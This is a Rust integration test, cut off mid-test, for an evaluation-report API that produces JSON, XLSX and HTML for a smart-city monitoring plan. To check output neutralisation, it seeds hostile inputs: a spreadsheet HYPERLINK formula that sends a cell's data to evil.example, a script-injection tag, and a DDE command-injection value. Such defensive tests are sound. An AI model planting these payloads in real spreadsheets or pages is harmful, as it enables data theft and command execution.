//! The evaluation report (laporan evaluasi) against the real daemon and the real binary: a plan
//! with indicators of every direction and kind and values across two past years, its figures
//! worked out by hand and compared with the JSON and, cell by cell, with the XLSX read back by
//! calamine (its frozen panes, column widths and print titles from the sheet XML); roll-ups per
//! program, dimension, tier and OPD; a past year's status as progress stood at its end (as
//! `?as_of=`) while its realisasi counts later corrections, on SQLite and PostgreSQL; a
//! triwulan report and one OPD's report; hostile notes neutralised in the XLSX and escaped in
//! the HTML; bad parameters named (API 400, CLI exit 2); `pantau report` beside a running
//! daemon and without one; the HTML printed to PDF by Chromium at A4 landscape with no cell
//! clipped, and the `/laporan` page. PDFs and screenshots go to `target/screenshots/`.

#[path = "common/browser.rs"]
mod browser;
mod common;

use calamine::{Data, Range, Reader, Xlsx};
use chrono::Datelike;
use common::*;
use serde_json::{Value, json};
use std::collections::HashMap;
use std::time::Duration;

/// Two complete years before this one, so that every value lies in the past whenever this runs.
fn years() -> (i32, i32) {
    let y = chrono::Utc::now()
        .with_timezone(&chrono_tz::Asia::Jakarta)
        .year();
    (y - 2, y - 1)
}

const HOSTILE_KENDALA: &str = "=HYPERLINK(\"http://evil.example/curi?data=\"&A1,\"klik di sini\")";
const HOSTILE_RTL: &str = "<script>window.__injected = 1</script> @SUM(A1) rapat koordinasi";

/// Two OPD, two dimensions, two quick-win programs; every direction and kind; one indicator
/// with targets only in the second year.
fn plan() -> String {
    let (a, b) = years();
    let base = a - 1;
    format!(
        r#"
[[department]]
id = "bapenda"
name = "Badan Pendapatan Daerah"
[[department]]
id = "dishub"
name = "Dinas Perhubungan"
[[dimension]]
id = "economy"
name = "Smart Economy"
[[dimension]]
id = "environment"
name = "Smart Environment"
[[program]]
id = "economy.x"
dimension = "economy"
name = "Pendapatan daerah digital"
department = "bapenda"
quick_win = true
start = {base}-12-31
due = {b}-12-31
[[indicator]]
id = "economy.x.level"
program = "economy.x"
name = "Naik, nilai terakhir"
code = "IKU-1.1"
tier = "output"
unit = "persen"
direction = "increase"
baseline = {{ date = {base}-12-31, value = 40.0 }}
targets = [{{ date = {a}-06-30, value = 55.0 }}, {{ date = {a}-12-31, value = 60.0 }}, {{ date = {b}-12-31, value = 80.0 }}]
update_every = "1mo"
[[indicator]]
id = "economy.x.cum"
program = "economy.x"
name = "Kumulatif dari baseline"
tier = "outcome"
unit = "rumah"
direction = "increase"
kind = "cumulative"
baseline = {{ date = {base}-12-31, value = 1000.0 }}
targets = [{{ date = {a}-12-31, value = 1500.0 }}, {{ date = {b}-12-31, value = 2000.0 }}]
update_every = "1mo"
[[indicator]]
id = "economy.x.ytd"
program = "economy.x"
name = "Realisasi PAD"
tier = "outcome"
unit = "Rp miliar"
direction = "increase"
kind = "cumulative_yearly"
baseline = {{ date = {base}-12-31, value = 180.0 }}
targets = [{{ date = {a}-03-31, value = 40.0 }}, {{ date = {a}-06-30, value = 100.0 }}, {{ date = {a}-09-30, value = 150.0 }}, {{ date = {a}-12-31, value = 200.0 }}, {{ date = {b}-12-31, value = 220.0 }}]
update_every = "1mo"
[[indicator]]
id = "economy.x.down"
program = "economy.x"
name = "Turun"
tier = "impact"
unit = "hari"
direction = "decrease"
baseline = {{ date = {base}-12-31, value = 10.0 }}
targets = [{{ date = {a}-12-31, value = 8.0 }}, {{ date = {b}-12-31, value = 6.0 }}]
update_every = "1mo"
[[program]]
id = "env.y"
dimension = "environment"
name = "Udara dan layanan terjaga"
department = "dishub"
quick_win = true
start = {base}-12-31
due = {a}-06-30
[[indicator]]
id = "env.y.most"
program = "env.y"
name = "Paling banyak"
unit = "ISPU"
direction = "at_most"
baseline = {{ date = {base}-12-31, value = 60.0 }}
targets = [{{ date = {a}-12-31, value = 50.0 }}, {{ date = {b}-12-31, value = 50.0 }}]
update_every = "1mo"
[[indicator]]
id = "env.y.least"
program = "env.y"
name = "Paling sedikit"
unit = "persen"
direction = "at_least"
baseline = {{ date = {base}-12-31, value = 98.0 }}
targets = [{{ date = {a}-12-31, value = 99.5 }}, {{ date = {b}-12-31, value = 99.5 }}]
update_every = "1mo"
[[indicator]]
id = "env.y.keep"
program = "env.y"
name = "Dijaga"
unit = "persen"
direction = "maintain"
tolerance = 2.0
baseline = {{ date = {base}-12-31, value = 100.0 }}
targets = [{{ date = {a}-12-31, value = 100.0 }}, {{ date = {b}-12-31, value = 100.0 }}]
update_every = "1mo"
[[indicator]]
id = "env.y.later"
program = "env.y"
name = "Baru tahun kedua"
unit = "unit"
direction = "increase"
baseline = {{ date = {base}-12-31, value = 0.0 }}
targets = [{{ date = {b}-12-31, value = 10.0 }}]
update_every = "1mo"
"#
    )
}

const SIGNATURES: &str = "[report]\nplace = \"Mojokerto\"\nsignatures = [{ jabatan = \"Kepala Bappeda\", nama = \"Dr. Ani Rahayu, M.Si.\", nip = \"19700101 199003 1 001\" }, { jabatan = \"Sekretaris Daerah\", nama = \"=cmd|' /C calc'!A0\" }]\n";

fn obs(list: &[(&str, String, f64)]) -> Value {
    json!({ "observations": list.iter().map(|(i, t, v)| json!({"indicator": i, "time": t, "value": v})).collect::<Vec<_>>() })
}

/// The values of both years; `economy.x.down` in December of the first year is posted as 9.5
/// and corrected to 9 later (`correct`).
fn values() -> Vec<(&'static str, String, f64)> {
    let (a, b) = years();
    let d = |y: i32, md: &str| format!("{y}-{md}");
    vec![
        ("economy.x.level", d(a, "02-10"), 44.0),
        ("economy.x.level", d(a, "03-31"), 46.0),
        ("economy.x.level", d(a, "08-15"), 57.0),
        ("economy.x.level", d(b, "05-05"), 70.0),
        ("economy.x.level", d(b, "11-20"), 68.0),
        ("economy.x.cum", d(a, "03-01"), 100.0),
        ("economy.x.cum", d(a, "11-01"), 300.0),
        ("economy.x.cum", d(b, "05-01"), 250.0),
        ("economy.x.ytd", d(a, "01-31"), 15.0),
        ("economy.x.ytd", d(a, "02-28"), 15.0),
        ("economy.x.ytd", d(a, "05-31"), 50.0),
        ("economy.x.ytd", d(a, "10-31"), 60.0),
        ("economy.x.ytd", d(b, "01-31"), 20.0),
        ("economy.x.ytd", d(b, "07-31"), 200.0),
        ("economy.x.down", d(a, "12-01"), 9.5),
        ("economy.x.down", d(b, "12-01"), 6.6),
        ("env.y.most", d(a, "12-01"), 42.0),
        ("env.y.most", d(b, "12-01"), 60.0),
        ("env.y.least", d(a, "12-01"), 99.7),
        ("env.y.least", d(b, "12-01"), 89.55),
        ("env.y.keep", d(a, "12-01"), 101.0),
        ("env.y.keep", d(b, "12-01"), 110.0),
    ]
}

/// Posts the values, makes Bapenda's arrive a day after their time (on time) while Dishub's
/// arrive today (late), corrects one value, and writes notes (one hostile).
async fn seed(base: &str, db: &std::path::Path) {
    let client = reqwest::Client::new();
    let post = |path: String, body: Value| {
        let client = client.clone();
        async move {
            let r = client
                .post(path)
                .bearer_auth(ADMIN)
                .json(&body)
                .send()
                .await
                .unwrap();
            let s = r.status().as_u16();
            let v: Value = r.json().await.unwrap();
            assert!(s == 200 || s == 201, "{s}: {v}");
        }
    };
    post(format!("{base}/api/v1/observations"), obs(&values())).await;
    {
        let conn = rusqlite::Connection::open(db).unwrap();
        conn.busy_timeout(Duration::from_secs(10)).unwrap();
        let n = conn
            .execute(
                "UPDATE observation SET received = t + 86400000 WHERE indicator LIKE 'economy.%'",
                [],
            )
            .unwrap();
        assert_eq!(n, 16);
    }
    let (a, _) = years();
    post(
        format!("{base}/api/v1/observations"),
        obs(&[("economy.x.down", format!("{a}-12-01"), 9.0)]),
    )
    .await;
    post(
        format!("{base}/api/v1/indicators/economy.x.level/notes"),
        json!({"kendala": HOSTILE_KENDALA, "rencana_tindak_lanjut": HOSTILE_RTL}),
    )
    .await;
    post(
        format!("{base}/api/v1/indicators/env.y.keep/notes"),
        json!({"kendala": "Sensor\nrusak dua minggu", "rencana_tindak_lanjut": "Ganti sensor"}),
    )
    .await;
}

async fn report_app() -> TestApp {
    let app = spawn_app_with(&plan(), SIGNATURES).await;
    seed(&app.base, &app.db).await;
    app
}

fn close(a: &Value, b: f64) {
    let x = a
        .as_f64()
        .unwrap_or_else(|| panic!("{a} is not a number (expected {b})"));
    assert!((x - b).abs() < 1e-6, "{x} != {b}");
}

fn row<'a>(report: &'a Value, id: &str) -> &'a Value {
    report["dimensions"]
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|d| d["programs"].as_array().unwrap())
        .flat_map(|p| p["indicators"].as_array().unwrap())
        .find(|i| i["id"] == id)
        .unwrap_or_else(|| panic!("no row {id}"))
}

fn rows(report: &Value) -> Vec<&Value> {
    report["dimensions"]
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|d| d["programs"].as_array().unwrap())
        .flat_map(|p| p["indicators"].as_array().unwrap())
        .collect()
}

fn group<'a>(list: &'a Value, id: Option<&str>) -> &'a Value {
    list.as_array()
        .unwrap()
        .iter()
        .find(|g| g["id"].as_str() == id)
        .unwrap_or_else(|| panic!("no group {id:?} in {list}"))
}

async fn get_bytes(client: &reqwest::Client, url: &str) -> (u16, HashMap<String, String>, Vec<u8>) {
    let r = client.get(url).send().await.unwrap();
    let status = r.status().as_u16();
    let headers = r
        .headers()
        .iter()
        .map(|(k, v)| (k.to_string(), v.to_str().unwrap_or("").to_string()))
        .collect();
    (status, headers, r.bytes().await.unwrap().to_vec())
}

// ---------------------------------------------------------------------------------------------
// Reading the workbook back.

struct Book {
    xlsx: Xlsx<std::io::Cursor<Vec<u8>>>,
}

impl Book {
    fn open(bytes: Vec<u8>) -> Book {
        Book {
            xlsx: calamine::open_workbook_from_rs(std::io::Cursor::new(bytes))
                .expect("the report opens as a workbook"),
        }
    }

    fn names(&self) -> Vec<String> {
        self.xlsx.sheet_names()
    }

    fn sheet(&mut self, name: &str) -> Sheet {
        let range = self.xlsx.worksheet_range(name).unwrap();
        let formulas = self.xlsx.worksheet_formula(name).unwrap();
        let styles = self.xlsx.worksheet_style(name).unwrap();
        Sheet {
            range,
            formulas,
            styles,
        }
    }
}

struct Sheet {
    range: Range<Data>,
    formulas: Range<String>,
    styles: calamine::StyleRange,
}

impl Sheet {
    fn cell(&self, r: u32, c: u32) -> Data {
        self.range.get_value((r, c)).cloned().unwrap_or(Data::Empty)
    }

    fn text(&self, r: u32, c: u32) -> String {
        match self.cell(r, c) {
            Data::String(s) => s,
            Data::Empty => String::new(),
            other => panic!("cell ({r}, {c}) is not text: {other:?}"),
        }
    }

    fn number(&self, r: u32, c: u32) -> Option<f64> {
        match self.cell(r, c) {
            Data::Float(x) => Some(x),
            Data::Int(x) => Some(x as f64),
            Data::Empty => None,
            Data::String(s) if s.is_empty() => None,
            other => panic!("cell ({r}, {c}) is not a number: {other:?}"),
        }
    }

    fn format(&self, r: u32, c: u32) -> String {
        self.styles
            .get((r, c))
            .and_then(|s| s.number_format.as_ref())
            .map(|f| f.format_code.clone())
            .unwrap_or_default()
    }

    /// The first row whose cell in `col` is `text`.
    fn find(&self, col: u32, text: &str) -> u32 {
        let last = self.range.end().map_or(0, |e| e.0);
        (0..=last)
            .find(|r| matches!(self.cell(*r, col), Data::String(s) if s == text))
            .unwrap_or_else(|| panic!("no `{text}` in column {col}"))
    }

    /// Header labels of row `r` -> column.
    fn header(&self, r: u32) -> HashMap<String, u32> {
        let last = self.range.end().map_or(0, |e| e.1);
        (0..=last)
            .filter_map(|c| match self.cell(r, c) {
                Data::String(s) if !s.is_empty() => Some((s, c)),
                _ => None,
            })
            .collect()
    }

    /// Every cell holding a formula.
    fn formulas(&self) -> Vec<String> {
        self.formulas
            .used_cells()
            .filter(|(_, _, f)| !f.is_empty())
            .map(|(r, c, f)| format!("({r}, {c}): {f}"))
            .collect()
    }
}

fn opt(v: &Value) -> Option<f64> {
    v.as_f64()
}

fn same(a: Option<f64>, b: Option<f64>, what: &str) {
    match (a, b) {
        (Some(x), Some(y)) => assert!((x - y).abs() < 1e-9, "{what}: {x} != {y}"),
        (None, None) => {}
        _ => panic!("{what}: {a:?} != {b:?}"),
    }
}

fn status_label(s: &str) -> &'static str {
    match s {
        "no_data" => "Belum ada data",
        "achieved" => "Tercapai",
        "on_track" => "Sesuai target",
        "at_risk" => "Berisiko",
        "off_track" => "Tertinggal",
        other => panic!("status {other}"),
    }
}

fn category_label(c: &Value) -> &'static str {
    match c.as_str() {
        None => "",
        Some("sangat_tinggi") => "Sangat tinggi",
        Some("tinggi") => "Tinggi",
        Some("sedang") => "Sedang",
        Some("rendah") => "Rendah",
        Some("sangat_rendah") => "Sangat rendah",
        Some(other) => panic!("category {other}"),
    }
}

fn tier_label(t: &Value) -> &'static str {
    match t.as_str() {
        Some("output") => "Output",
        Some("outcome") => "Outcome",
        Some("impact") => "Impact",
        None => "Tanpa tingkat",
        Some(other) => panic!("tier {other}"),
    }
}

/// What the workbook must show for a text that came from outside.
fn neutral(s: &str) -> String {
    let kept: String = s
        .chars()
        .filter(|c| !c.is_control() || matches!(c, '\t' | '\n' | '\r'))
        .collect();
    if kept.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{kept}")
    } else {
        kept
    }
}

/// Every indicator row of the JSON report against its line in its dimension's sheet, and every
/// summary figure against the summary sheet.
fn compare_workbook_with_json(book: &mut Book, report: &Value) {
    let quarter = report["period"]["quarter"].as_u64();
    let year = report["period"]["year"].as_i64().unwrap();
    let dims = report["dimensions"].as_array().unwrap();
    let mut expected_names = vec!["Ringkasan".to_string()];
    expected_names.extend(dims.iter().map(|d| d["name"].as_str().unwrap().to_string()));
    assert_eq!(book.names(), expected_names);
    let mut compared = 0;
    for dim in dims {
        let s = book.sheet(dim["name"].as_str().unwrap());
        assert_eq!(s.formulas(), Vec::<String>::new(), "no formula anywhere");
        let h = s.header(3);
        let col = |name: &str| {
            *h.get(name)
                .unwrap_or_else(|| panic!("no column `{name}` in {h:?}"))
        };
        let last_q = quarter.unwrap_or(4);
        for q in 1..=4u64 {
            let label = format!("Realisasi TW {}", ["I", "II", "III", "IV"][q as usize - 1]);
            assert_eq!(h.contains_key(&label), q <= last_q, "{label} in {h:?}");
        }
        let capaian_col = match quarter {
            None => col("Capaian"),
            Some(q) => col(&format!(
                "Capaian TW {}",
                ["I", "II", "III", "IV"][q as usize - 1]
            )),
        };
        for prog in dim["programs"].as_array().unwrap() {
            let name = prog["name"].as_str().unwrap();
            let label = if prog["quick_win"] == true {
                format!("Program: {name} (quick win)")
            } else {
                format!("Program: {name}")
            };
            let r = s.find(col("Program / Indikator"), &label);
            same(
                s.number(r, capaian_col),
                opt(&prog["rollup"]["capaian"]).map(|c| c / 100.0),
                "program capaian",
            );
            for ind in prog["indicators"].as_array().unwrap() {
                let r = s.find(col("Program / Indikator"), ind["name"].as_str().unwrap());
                let what = ind["id"].as_str().unwrap();
                assert_eq!(
                    s.text(r, col("Kode")),
                    ind["code"].as_str().unwrap_or(""),
                    "{what}"
                );
                assert_eq!(s.text(r, col("Satuan")), ind["unit"].as_str().unwrap());
                assert_eq!(
                    s.text(r, col("OPD")),
                    ind["department_name"].as_str().unwrap()
                );
                assert_eq!(s.text(r, col("Tingkat")), tier_label(&ind["tier"]));
                same(s.number(r, col("Baseline")), opt(&ind["baseline"]), what);
                same(
                    s.number(r, col(&format!("Target {year}"))),
                    opt(&ind["target"]),
                    what,
                );
                for q in ind["quarters"].as_array().unwrap() {
                    let n = q["quarter"].as_u64().unwrap() as usize;
                    let label = format!("Realisasi TW {}", ["I", "II", "III", "IV"][n - 1]);
                    same(
                        s.number(r, col(&label)),
                        opt(&q["realisasi"]),
                        &format!("{what} {label}"),
                    );
                }
                match quarter {
                    None => same(
                        s.number(r, col(&format!("Realisasi {year}"))),
                        opt(&ind["realisasi"]),
                        what,
                    ),
                    Some(q) => same(
                        s.number(
                            r,
                            col(&format!(
                                "Target TW {}",
                                ["I", "II", "III", "IV"][q as usize - 1]
                            )),
                        ),
                        opt(&ind["quarter_target"]),
                        what,
                    ),
                }
                same(
                    s.number(r, capaian_col),
                    opt(&ind["capaian"]).map(|c| c / 100.0),
                    what,
                );
                let format = s.format(r, capaian_col);
                assert!(format.contains('%'), "capaian is a percent cell: {format}");
                assert_eq!(
                    format.contains('*'),
                    ind["capaian_basis"] == "year_target_for_quarter",
                    "{what}: {format}"
                );
                assert_eq!(s.format(r, col("Baseline")), "#,##0.00");
                assert_eq!(s.text(r, col("Kategori")), category_label(&ind["category"]));
                let mut status = status_label(ind["status"].as_str().unwrap()).to_string();
                if ind["overdue"] == true {
                    status.push_str(" (lewat tenggat)");
                }
                assert_eq!(s.text(r, col("Status")), status, "{what}");
                let note = &ind["note"];
                assert_eq!(
                    s.text(r, col("Kendala")),
                    neutral(note["kendala"].as_str().unwrap_or("")),
                    "{what}"
                );
                assert_eq!(
                    s.text(r, col("Rencana tindak lanjut")),
                    neutral(note["rencana_tindak_lanjut"].as_str().unwrap_or("")),
                    "{what}"
                );
                compared += 1;
            }
        }
    }
    assert_eq!(compared, rows(report).len());

    // The summary sheet: every dimension and tier, the quick wins, the compliance.
    let s = book.sheet("Ringkasan");
    assert_eq!(s.formulas(), Vec::<String>::new());
    assert_eq!(s.text(0, 0), "Laporan Evaluasi Masterplan Smart City");
    assert_eq!(s.text(1, 0), report["city"].as_str().unwrap());
    let meta = |label: &str| s.text(s.find(0, label), 1);
    assert_eq!(meta("Periode"), report["period"]["label"].as_str().unwrap());
    assert_eq!(
        meta("Versi rencana"),
        report["plan_version"].as_str().unwrap()
    );
    let groups = |first: &str, list: &Value| {
        let header = s.find(0, first);
        let h = s.header(header);
        for (k, g) in list.as_array().unwrap().iter().enumerate() {
            let r = header + 1 + k as u32;
            assert_eq!(s.text(r, 0), g["name"].as_str().unwrap());
            same(
                s.number(r, h["Indikator"]),
                opt(&g["indicators"]),
                "indicators",
            );
            same(
                s.number(r, h["Dengan capaian"]),
                opt(&g["with_capaian"]),
                "with",
            );
            same(
                s.number(r, h["Capaian"]),
                opt(&g["capaian"]).map(|c| c / 100.0),
                g["name"].as_str().unwrap(),
            );
            assert_eq!(s.text(r, h["Kategori"]), category_label(&g["category"]));
            for (label, key) in [
                ("Sangat tinggi", "sangat_tinggi"),
                ("Tinggi", "tinggi"),
                ("Sedang", "sedang"),
                ("Rendah", "rendah"),
                ("Sangat rendah", "sangat_rendah"),
            ] {
                same(s.number(r, h[label]), opt(&g["categories"][key]), label);
            }
        }
    };
    groups("Dimensi", &report["summary"]["dimensions"]);
    groups("Tingkat", &report["summary"]["tiers"]);
    groups("OPD penanggung jawab", &report["summary"]["departments"]);
    let total = s.find(0, "Seluruh indikator");
    same(
        s.number(total, 3),
        opt(&report["summary"]["overall"]["capaian"]).map(|c| c / 100.0),
        "overall",
    );
    let qw = s.find(0, "Program");
    let h = s.header(qw);
    for (k, q) in report["quick_wins"].as_array().unwrap().iter().enumerate() {
        let r = qw + 1 + k as u32;
        assert_eq!(s.text(r, 0), q["name"].as_str().unwrap());
        assert_eq!(
            s.text(r, h["Status"]),
            status_label(q["status"].as_str().unwrap())
        );
        assert_eq!(
            s.text(r, h["Lewat tenggat"]),
            if q["overdue"] == true { "Ya" } else { "Tidak" }
        );
        same(s.number(r, h["Progres"]), opt(&q["progress"]), "progress");
        let due =
            chrono::NaiveDate::parse_from_str(q["due"].as_str().unwrap(), "%Y-%m-%d").unwrap();
        match s.cell(r, h["Tenggat"]) {
            Data::DateTime(d) => assert_eq!(d.as_datetime().unwrap().date(), due),
            other => panic!("the due date is a date cell: {other:?}"),
        }
    }
    let c = s.find(0, "OPD");
    let h = s.header(c);
    for (k, d) in report["compliance"]["departments"]
        .as_array()
        .unwrap()
        .iter()
        .enumerate()
    {
        let r = c + 1 + k as u32;
        assert_eq!(s.text(r, 0), d["name"].as_str().unwrap());
        assert_eq!(
            s.text(r, h["Peringkat"]),
            format!(
                "{} dari {}",
                d["rank"], report["compliance"]["ranked_among"]
            )
        );
        for (label, key) in [
            ("Periode wajib lapor", "expected"),
            ("Tepat waktu", "on_time"),
            ("Terlambat", "late"),
            ("Tidak lapor", "missing"),
            ("Belum jatuh tempo", "pending"),
        ] {
            same(s.number(r, h[label]), opt(&d[key]), label);
        }
        same(
            s.number(r, h["Tepat waktu (%)"]),
            opt(&d["on_time_percent"]).map(|p| p / 100.0),
            "on time",
        );
    }
    // The signatures, neutralised as every text.
    let place = s.find(
        8,
        &format!(
            "Mojokerto, {}",
            long_date(report["signatures"]["date"].as_str().unwrap())
        ),
    );
    assert_eq!(s.text(place + 1, 6), "Kepala Bappeda");
    assert_eq!(s.text(place + 5, 6), "Dr. Ani Rahayu, M.Si.");
    assert_eq!(s.text(place + 6, 6), "NIP. 19700101 199003 1 001");
    assert_eq!(s.text(place + 1, 8), "Sekretaris Daerah");
    assert_eq!(s.text(place + 5, 8), "'=cmd|' /C calc'!A0");
}

/// One part of an XLSX file (a zip), as text.
fn xlsx_part(bytes: &[u8], name: &str) -> String {
    use std::io::Read;
    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(bytes)).expect("an XLSX is a zip");
    let mut part = zip
        .by_name(name)
        .unwrap_or_else(|e| panic!("no {name} in the workbook: {e}"));
    let mut text = String::new();
    part.read_to_string(&mut text).unwrap();
    text
}

/// The attributes of every `<tag …>` element in `xml`.
fn elements(xml: &str, tag: &str) -> Vec<HashMap<String, String>> {
    let open = format!("<{tag} ");
    xml.split(&open)
        .skip(1)
        .map(|rest| {
            let inside = rest.split('>').next().unwrap_or("");
            inside
                .split('"')
                .collect::<Vec<_>>()
                .chunks(2)
                .filter_map(|kv| {
                    let key = kv.first()?.trim().trim_end_matches('=').trim();
                    let value = kv.get(1)?;
                    (!key.is_empty()).then(|| (key.to_string(), value.to_string()))
                })
                .collect()
        })
        .collect()
}

/// Column (1-based) -> width of a sheet, from its `<col min max width customWidth>` elements.
fn column_widths(sheet: &str) -> HashMap<u32, f64> {
    let mut widths = HashMap::new();
    for col in elements(sheet, "col") {
        assert_eq!(
            col.get("customWidth").map(String::as_str),
            Some("1"),
            "{col:?}"
        );
        let n = |k: &str| col[k].parse::<u32>().unwrap();
        for c in n("min")..=n("max") {
            widths.insert(c, col["width"].parse::<f64>().unwrap());
        }
    }
    widths
}

/// The sheets' frozen panes, column widths and printed header rows, read from the sheet XML
/// (calamine does not tell them): the summary's title rows frozen; on each dimension's sheet
/// the header row (row 4) and the number, code and name columns frozen, the header row printed
/// on every page, and every column given its width (the name and note columns wide).
fn check_frozen_headers_and_widths(bytes: &[u8], report: &Value) {
    let workbook = xlsx_part(bytes, "xl/workbook.xml");
    let sheets: Vec<String> = elements(&workbook, "sheet")
        .into_iter()
        .map(|s| s["name"].clone())
        .collect();
    let dims = report["dimensions"].as_array().unwrap();
    assert_eq!(sheets.len(), 1 + dims.len(), "{sheets:?}");
    assert_eq!(sheets[0], "Ringkasan");

    let summary = xlsx_part(bytes, "xl/worksheets/sheet1.xml");
    let pane = elements(&summary, "pane");
    assert_eq!(pane.len(), 1, "one frozen pane on the summary: {pane:?}");
    assert_eq!(pane[0].get("state").map(String::as_str), Some("frozen"));
    assert_eq!(pane[0].get("ySplit").map(String::as_str), Some("2"));
    assert_eq!(pane[0].get("topLeftCell").map(String::as_str), Some("A3"));
    assert!(!pane[0].contains_key("xSplit"), "{pane:?}");
    let widths = column_widths(&summary);
    assert!((widths[&1] - 40.0).abs() < 1.0, "{widths:?}");
    for c in 2..=10 {
        assert!(
            widths[&c] >= 13.0 && widths[&c] < 16.0,
            "column {c}: {widths:?}"
        );
    }

    for (k, dim) in dims.iter().enumerate() {
        let name = dim["name"].as_str().unwrap();
        assert_eq!(sheets[k + 1], name);
        let sheet = xlsx_part(bytes, &format!("xl/worksheets/sheet{}.xml", k + 2));
        let pane = elements(&sheet, "pane");
        assert_eq!(pane.len(), 1, "{name}: {pane:?}");
        for (attribute, value) in [
            ("state", "frozen"),
            ("xSplit", "3"),
            ("ySplit", "4"),
            ("topLeftCell", "D5"),
        ] {
            assert_eq!(
                pane[0].get(attribute).map(String::as_str),
                Some(value),
                "{name}: {pane:?}"
            );
        }
        let widths = column_widths(&sheet);
        let header = book_header_count(report);
        assert_eq!(
            widths.len(),
            header,
            "{name}: every column has a width: {widths:?}"
        );
        assert!((widths[&1] - 5.0).abs() < 1.0, "No: {widths:?}");
        assert!(
            (widths[&3] - 42.0).abs() < 1.0,
            "Program / Indikator: {widths:?}"
        );
        for c in [header as u32 - 1, header as u32] {
            assert!((widths[&c] - 36.0).abs() < 1.0, "notes: {widths:?}");
        }
        // The header row repeats on every printed page (this sheet's Print_Titles).
        let sheet_id = (k + 1).to_string();
        let printed = workbook
            .split("<definedName ")
            .skip(1)
            .find(|d| {
                let attributes = &elements(&format!("<definedName {d}"), "definedName")[0];
                attributes.get("name").map(String::as_str) == Some("_xlnm.Print_Titles")
                    && attributes.get("localSheetId") == Some(&sheet_id)
            })
            .and_then(|d| d.split('>').nth(1))
            .and_then(|d| d.split("</definedName").next())
            .unwrap_or_else(|| panic!("{name}: no print titles in {workbook}"));
        assert!(printed.ends_with("!$4:$4"), "{name}: {printed}");
    }
}

/// How many columns a dimension sheet of `report` has: seven, the year's target, the
/// triwulan's target (a triwulan report), the realisasi columns, capaian, then four.
fn book_header_count(report: &Value) -> usize {
    match report["period"]["quarter"].as_u64() {
        None => 7 + 1 + 4 + 1 + 1 + 4,
        Some(q) => 7 + 1 + 1 + q as usize + 1 + 4,
    }
}

fn long_date(ymd: &str) -> String {
    let d = chrono::NaiveDate::parse_from_str(ymd, "%Y-%m-%d").unwrap();
    const MONTHS: [&str; 12] = [
        "Januari",
        "Februari",
        "Maret",
        "April",
        "Mei",
        "Juni",
        "Juli",
        "Agustus",
        "September",
        "Oktober",
        "November",
        "Desember",
    ];
    format!("{} {} {}", d.day(), MONTHS[d.month0() as usize], d.year())
}

// ---------------------------------------------------------------------------------------------
// Tests

#[tokio::test]
async fn the_yearly_report_matches_figures_worked_out_by_hand_in_json_and_xlsx() {
    let (a, b) = years();
    let app = report_app().await;

    let (s, r) = app
        .get(&format!("/api/v1/reports/evaluation?year={a}"))
        .await;
    assert_eq!(s, 200, "{r}");
    assert_eq!(r["city"], "Kota Uji");
    assert_eq!(r["period"]["label"], format!("Tahun {a}"));
    assert_eq!(r["period"]["from"], format!("{a}-01-01"));
    assert_eq!(r["period"]["to"], format!("{a}-12-31"));
    let version = r["plan_version"].as_str().unwrap();
    assert!(version.len() == 12 && version.chars().all(|c| c.is_ascii_hexdigit()));
    assert!(
        r["status_as_of"]
            .as_str()
            .unwrap()
            .starts_with(&format!("{a}-12-31T23:59:59")),
        "{}",
        r["status_as_of"]
    );
    assert!(r["made_at"].as_str().unwrap().ends_with("+07:00"));

    // Per indicator, year a (as tests/cycle.rs works them out): level 46 / – / 57 / – in the
    // quarters, 57 of 60 = 95 %; cumulative 1,000 + 100 + 300 = 1,400 of 1,500 = 93,33 %;
    // year-to-date 140 of 200 = 70 %; decrease 9 (the corrected value) of 8: (16 − 9) / 8 =
    // 87,5 %; at_most 42 ≤ 50, at_least 99,7 ≥ 99,5 and maintain 101 within ±2: 100 %.
    let level = row(&r, "economy.x.level");
    let q: Vec<Option<f64>> = level["quarters"]
        .as_array()
        .unwrap()
        .iter()
        .map(|q| q["realisasi"].as_f64())
        .collect();
    assert_eq!(q, vec![Some(46.0), None, Some(57.0), None]);
    close(&level["target"], 60.0);
    close(&level["realisasi"], 57.0);
    close(&level["capaian"], 95.0);
    assert_eq!(level["category"], "sangat_tinggi");
    assert_eq!(level["code"], "IKU-1.1");
    assert_eq!(level["department_name"], "Badan Pendapatan Daerah");
    assert_eq!(level["note"]["kendala"], HOSTILE_KENDALA);
    let cum = row(&r, "economy.x.cum");
    close(&cum["realisasi"], 1400.0);
    close(&cum["capaian"], 1400.0 / 1500.0 * 100.0);
    let ytd = row(&r, "economy.x.ytd");
    close(&ytd["realisasi"], 140.0);
    close(&ytd["capaian"], 70.0);
    assert_eq!(ytd["category"], "sedang");
    let down = row(&r, "economy.x.down");
    close(&down["realisasi"], 9.0);
    close(&down["capaian"], 87.5);
    assert_eq!(down["category"], "tinggi");
    for id in ["env.y.most", "env.y.least", "env.y.keep"] {
        close(&row(&r, id)["capaian"], 100.0);
    }
    // Left out: an indicator with no target in year a.
    assert_eq!(rows(&r).len(), 7);
    assert_eq!(r["summary"]["without_target"], 1);

    // Status at the end of year a as it stood then (progress `as_of` its last day): Bapenda's
    // values had arrived (a day after their time); the level indicator at 57 was
    // (57 − 40) / 40 = 0,425 along against 0,501 expected: 0,85× is below at_risk. Dishub's
    // December values only arrived today: nothing was known of them then, though they count
    // for realisasi and capaian above (100 %).
    assert_eq!(level["status"], "off_track");
    for id in ["env.y.most", "env.y.least", "env.y.keep"] {
        assert_eq!(row(&r, id)["status"], "no_data", "{id}");
    }
    assert_eq!(app.indicator("env.y.most").await["status"], "off_track");
    // Every status is the one `?as_of=` gives for the year's last day, where the decrease
    // indicator still stood at 9,5 (its correction to 9 came today).
    let (_, then) = app.get(&format!("/api/v1/progress?as_of={a}-12-31")).await;
    let known_then = |id: &str| {
        then["indicators"]
            .as_array()
            .unwrap()
            .iter()
            .find(|i| i["id"] == id)
            .cloned()
            .unwrap_or_else(|| panic!("{id} not in {then}"))
    };
    close(&known_then("economy.x.down")["current"], 9.5);
    for line in rows(&r) {
        let id = line["id"].as_str().unwrap();
        assert_eq!(line["status"], known_then(id)["status"], "{id}");
        assert_eq!(line["overdue"], known_then(id)["overdue"], "{id}");
    }

    // Roll-ups: economy (95 + 93,33 + 70 + 87,5) / 4 = 86,46 % tinggi; environment 100 %;
    // all seven 92,26 %; tiers output 95, outcome (93,33 + 70) / 2 = 81,67, impact 87,5, the
    // three without a tier 100; the programs and the OPD as their dimensions here (each OPD
    // runs one dimension's program: `a_past_years_report...` has OPD across dimensions).
